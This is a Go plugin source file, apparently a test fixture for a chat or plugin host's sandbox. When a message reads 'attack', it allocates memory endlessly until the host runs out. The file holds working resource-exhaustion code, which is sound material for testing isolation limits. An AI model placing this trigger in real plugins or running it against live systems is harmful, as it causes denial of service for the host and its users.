// Command membomb allocates until memory runs out on "attack".
package main

import "github.com/kefu-io/kefu/plugins/pdk"

var keep [][]byte

func init() {
	pdk.OnInbound(func(env *pdk.Envelope) pdk.Result {
		if env.Message.Text == "attack" {
			for {
				b := make([]byte, 1<<20)
				for i := range b {
					b[i] = byte(i)
				}
				keep = append(keep, b)
			}
		}
		return pdk.Answer("ok:membomb")
	})
}

func main() {}
